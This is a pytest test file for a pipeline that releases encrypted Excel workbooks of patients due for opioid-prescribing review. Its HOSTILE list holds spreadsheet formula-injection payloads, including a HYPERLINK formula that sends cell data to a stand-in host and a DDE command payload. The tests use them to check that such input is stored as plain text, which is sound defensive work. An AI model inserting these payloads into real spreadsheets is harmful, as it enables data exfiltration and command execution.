"""The encrypted workbook: it opens with its password alone, holds text as text, and is never on disk in clear."""

import io
import re
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path

import fastexcel
import msoffcrypto
import pytest
from msoffcrypto.exceptions import InvalidKeyError
from release_rows import MONTH, PASSWORD, PEOPLE, person, published, request

from pipelines.audit import AuditTrail
from pipelines.errors import UnreadableFile, UsageError
from pipelines.folders import DataFolder
from pipelines.identity import open_door
from pipelines.release import release_list
from pipelines.release.paper import PARTS
from pipelines.release.sealing import opened, refuse_weak
from pipelines.release.wording import COLUMNS, LAST_REVIEW, PRACTICE, SINCE_PUBLICATION
from pipelines.reviews import Review, ReviewStore, load_outcomes, read_reviews

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "http://evil.example/",
    "mailto:x@evil.example",
    "{=1+1}",
    "\t=1+1",
    "internal:Sheet1!A1",
]


@pytest.fixture
def data(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> DataFolder:
    monkeypatch.setenv("OPIOIDS_KEY_FILE", str(tmp_path / "key"))
    return published(tmp_path / "data", PEOPLE)


def unsealed(file: Path, password: str = PASSWORD) -> bytes:
    office = msoffcrypto.OfficeFile(io.BytesIO(file.read_bytes()))
    office.load_key(password=password, verify_password=True)
    out = io.BytesIO()
    office.decrypt(out, verify_integrity=True)
    return out.getvalue()


def sheet_rows(workbook: bytes, name: str) -> list[list[str]]:
    sheet = fastexcel.read_excel(workbook).load_sheet(name, header_row=None, skip_rows=0, dtypes="string")
    return [[cell or "" for cell in row.values()] for row in sheet.to_arrow().to_pylist()]


def test_it_opens_with_the_right_password_and_no_other(data: DataFolder, tmp_path: Path) -> None:
    out = tmp_path / "handed over" / "list.xlsx"
    release_list(request(out), data)
    rows = sheet_rows(unsealed(out), "List")
    assert rows[0][:2] == ["Priority", "Patient (pseudonym)"]
    assert [row[1] for row in rows[1:5]] == ["first", "a-higher", "b-lower", "later"]
    assert rows[5][0] == "Likely end of life: check the record first, do not invite"
    assert rows[6][1] == "dying"
    with pytest.raises(InvalidKeyError):
        unsealed(out, "another password")
    with pytest.raises(UnreadableFile, match="does not open"):
        opened(out.read_bytes(), "another password", "list.xlsx")
    assert opened(out.read_bytes(), PASSWORD, "list.xlsx") == unsealed(out)
    assert out.stat().st_mode & 0o077 == 0


def test_a_damaged_workbook_is_told_from_a_wrong_password_by_neither_and_gives_nothing(data: DataFolder) -> None:
    out = data.root / "list.xlsx"
    release_list(request(out), data)
    spoilt = bytearray(out.read_bytes())
    spoilt[len(spoilt) // 2] ^= 1
    with pytest.raises(UnreadableFile):
        opened(bytes(spoilt), PASSWORD, "list.xlsx")


@pytest.mark.parametrize(
    "password", ["", "short", "elevenchars", "123456789012345", "aaaaaaaaaaaaaaaa", "ababababababab"]
)
def test_a_weak_password_is_refused_before_anything_is_asked_of_the_warehouse(data: DataFolder, password: str) -> None:
    with pytest.raises(UsageError, match="too weak") as error:
        release_list(request(data.root / "x.xlsx", password=lambda: password), data)
    assert not password or password not in str(error.value)
    assert not (data.root / "x.xlsx").exists()
    assert AuditTrail(data).entries() == []


def test_three_random_words_will_do() -> None:
    refuse_weak(PASSWORD)


def test_hostile_names_make_no_formula_and_no_link(tmp_path: Path) -> None:
    people = [
        person(f"p{number}", opioids=text, gabapentinoids=text, practice_name=text, why_listed=text, cautions=text)
        for number, text in enumerate(HOSTILE)
    ]
    excluded = [person("e", practice_name=HOSTILE[0], exclusion=HOSTILE[0], excluded_on=MONTH)]
    data = published(tmp_path / "data", people, excluded=excluded)
    out = data.root / "list.xlsx"
    release_list(request(out), data)
    with zipfile.ZipFile(io.BytesIO(unsealed(out))) as book:
        parts = {name: book.read(name).decode("utf-8") for name in book.namelist()}
    sheets = {name: part for name, part in parts.items() if re.match(r"xl/worksheets/sheet\d+\.xml", name)}
    assert len(sheets) >= 3
    for part in sheets.values():
        assert not re.search(r"<f[ >]", part)
        assert "<hyperlink" not in part
    assert not [name for name in parts if "externalLink" in name]
    assert not any('TargetMode="External"' in part for part in parts.values())
    rows = sheet_rows(unsealed(out), "List")
    assert {row[13] for row in rows[1 : len(HOSTILE) + 1]} == set(HOSTILE)


def test_numbers_and_codes_are_text_and_the_numbers_to_paste_have_ten_digits(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPIOIDS_KEY_FILE", str(tmp_path / "key"))
    data = DataFolder(tmp_path / "data")
    data.prepare()
    known, upstream = open_door(data).pass_through(["9434765919", "an-upstream-id"], "x.csv")
    published(data.root, [person(str(known.patient_key), priority=1), person(str(upstream.patient_key))])
    out = tmp_path / "list.xlsx"
    done = release_list(request(out, with_nhs_numbers=True), data)
    workbook = unsealed(out)
    rows = sheet_rows(workbook, "List")
    assert [row[1] for row in rows] == ["NHS number", "943 476 5919", upstream.patient_key]
    assert sheet_rows(workbook, "Numbers to paste") == [["NHS number"], ["9434765919"]]
    assert "The NHS number of 1 person is not known here: a pseudonym stands in its place." in done.reminders
    with zipfile.ZipFile(io.BytesIO(workbook)) as book:
        strings = book.read("xl/sharedStrings.xml").decode()
        assert "<t>9434765919</t>" in strings
        assert not any("<v>9434765919</v>" in book.read(name).decode() for name in book.namelist() if "sheet" in name)
    (entry,) = AuditTrail(data).entries()
    assert entry["nhs_numbers"] == 1
    assert "9434765919" not in (data.state / "audit.jsonl").read_text()


def test_nobody_who_is_not_to_be_invited_is_among_the_numbers_to_paste(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Likely end of life, died, moved, excluded since the publication: on the list, and not in a bulk invitation."""
    monkeypatch.setenv("OPIOIDS_KEY_FILE", str(tmp_path / "key"))
    data = DataFolder(tmp_path / "data")
    data.prepare()
    numbers = ("9434765919", "9990000018", "9990000026", "9990000034")
    keyed = open_door(data).pass_through(numbers, "x.csv")
    well, dying, died, cancer = (str(each.patient_key) for each in keyed)
    published(data.root, [person(well), person(dying, palliative_proxy="strong"), person(died), person(cancer)])
    ReviewStore(data).add(
        [Review(died, MONTH, "died", "AB"), Review(cancer, MONTH, "excluded: cancer", "AB")],
        "somebody",
    )
    out = tmp_path / "list.xlsx"
    done = release_list(request(out, with_nhs_numbers=True), data)
    assert sheet_rows(unsealed(out), "Numbers to paste") == [["NHS number"], ["9434765919"]]
    assert any("'Numbers to paste' leaves out 3 people" in line for line in done.reminders)
    assert done.people == 4


def test_without_the_option_there_is_no_number(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPIOIDS_KEY_FILE", str(tmp_path / "key"))
    data = DataFolder(tmp_path / "data")
    data.prepare()
    (known,) = open_door(data).pass_through(["9434765919"], "x.csv")
    published(data.root, [person(str(known.patient_key))])
    release_list(request(tmp_path / "list.xlsx"), data)
    with zipfile.ZipFile(io.BytesIO(unsealed(tmp_path / "list.xlsx"))) as book:
        content = b"".join(book.read(name) for name in book.namelist())
    assert b"9434765919" not in content
    assert b"943 476 5919" not in content
    assert b"Numbers to paste" not in content


def test_it_is_set_up_for_paper(data: DataFolder) -> None:
    out = data.root / "list.xlsx"
    release_list(request(out), data)
    with zipfile.ZipFile(io.BytesIO(unsealed(out))) as book:
        sheet = book.read("xl/worksheets/sheet2.xml").decode()
        names = book.read("xl/workbook.xml").decode()
    assert 'orientation="landscape"' in sheet
    assert 'paperSize="9"' in sheet
    assert 'fitToHeight="0"' in sheet
    assert "Confidential: patient identifiable" in sheet
    assert "Page &amp;P of &amp;N" in sheet
    assert "List!$1:$1" in names
    # The filter ends with the work: people near the end of life are not sorted in among the others.
    assert '<autoFilter ref="A1:U5"' in sheet


def test_nothing_is_written_but_the_sealed_file(
    data: DataFolder, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every file opened for writing during a release is looked at: no temporary file, no clear workbook."""
    temporary, cwd = tmp_path / "temporary", tmp_path / "cwd"
    temporary.mkdir()
    cwd.mkdir()
    monkeypatch.setenv("TMPDIR", str(temporary))
    monkeypatch.setattr(tempfile, "tempdir", None)
    monkeypatch.chdir(cwd)
    opened_for_writing: set[str] = set()
    # A hook cannot be taken away again, only told to look aside.
    is_watching = [True]

    def watch(event: str, arguments: tuple) -> None:
        if (
            is_watching[0]
            and event == "open"
            and isinstance(arguments[0], str | Path)
            and set(str(arguments[1] or "")) & set("wax+")
        ):
            opened_for_writing.add(Path(arguments[0]).name)

    sys.addaudithook(watch)
    release_list(request(tmp_path / "list.xlsx"), data)
    is_watching[0] = False
    written = {name for name in opened_for_writing if not name.endswith((".pyc", ".lock"))}
    assert written <= {"list.xlsx.part", "audit.jsonl", "audit.head.part"}
    assert "list.xlsx.part" in written
    assert not any(temporary.iterdir())
    assert not any(cwd.iterdir())
    assert not any(data.tmp.iterdir())
    assert not (tmp_path / "list.xlsx").read_bytes().startswith(b"PK")


def test_what_is_printed_holds_every_column_in_letters_that_can_be_read(data: DataFolder, tmp_path: Path) -> None:
    """A4 landscape is 28 cm of paper: 178 characters of 11 points at 9 points."""
    assert sorted(heading for part in PARTS for heading, _ in part.holds) == sorted(
        column.heading for column in COLUMNS
    )
    assert sum(part.width for part in PARTS) <= 178
    release_list(request(tmp_path / "list.xlsx"), data)
    workbook = unsealed(tmp_path / "list.xlsx")
    listed, printed = (sheet_rows(workbook, name) for name in ("List", "To print"))
    assert [row[0] for row in printed[1:]] == [row[0] for row in listed[1:]]
    for on_screen, on_paper in zip(listed[1:], printed[1:], strict=True):
        everything = "\n".join(on_paper)
        hidden = hidden_in(listed)
        assert all(cell in everything for number, cell in enumerate(on_screen) if number not in hidden)
    first = printed[1]
    assert first[1].splitlines()[:2] == ["first", "Age: 60"]
    assert first[8] == "Reviewed on: \nOutcome: \nReviewer: "


def hidden_in(listed: list[list[str]]) -> set[int]:
    """Columns that say the same of everybody, of those that may be left off the paper."""
    may_be = {PRACTICE, SINCE_PUBLICATION, LAST_REVIEW}
    people = [row for row in listed[1:] if any(row[1:])]
    return {n for n, name in enumerate(listed[0]) if name in may_be and len({row[n] for row in people}) == 1}


def test_a_list_that_is_filled_in_can_be_imported(data: DataFolder, tmp_path: Path) -> None:
    """The sealed workbook, opened and with its last columns filled, is a file of reviews."""
    from datetime import date

    key = "0" * 31 + "a"
    published(data.root, [person(key, priority=1), person("f" * 32)])
    release_list(request(tmp_path / "list.xlsx"), data)
    workbook = unsealed(tmp_path / "list.xlsx")
    found = read_reviews(workbook, "list.xlsx", load_outcomes(), open_door(data), date(2024, 12, 1))
    assert (found.reviews, found.rows_without_review) == ((), 2)


def test_sealing_does_not_weaken_with_the_library(data: DataFolder) -> None:
    import olefile

    out = data.root / "list.xlsx"
    release_list(request(out), data)
    info = olefile.OleFileIO(io.BytesIO(out.read_bytes())).openstream("EncryptionInfo").read().decode("latin-1")
    assert 'keyBits="256"' in info
    assert 'cipherAlgorithm="AES"' in info
    assert 'hashAlgorithm="SHA512"' in info
    assert int(re.findall(r'spinCount="(\d+)"', info)[0]) >= 100_000


def test_listing_imports_nothing_heavy() -> None:
    """A list is made in a second or two: polars, Prefect, scipy and pydantic have no part in it."""
    code = (
        "import sys, pipelines.release.lists, pipelines.release.importing, pipelines.cli.main; "
        "print(sorted({'polars', 'prefect', 'scipy', 'pyarrow', 'numpy', 'pandas', 'pydantic'} & set(sys.modules)))"
    )
    assert subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout == "[]\n"
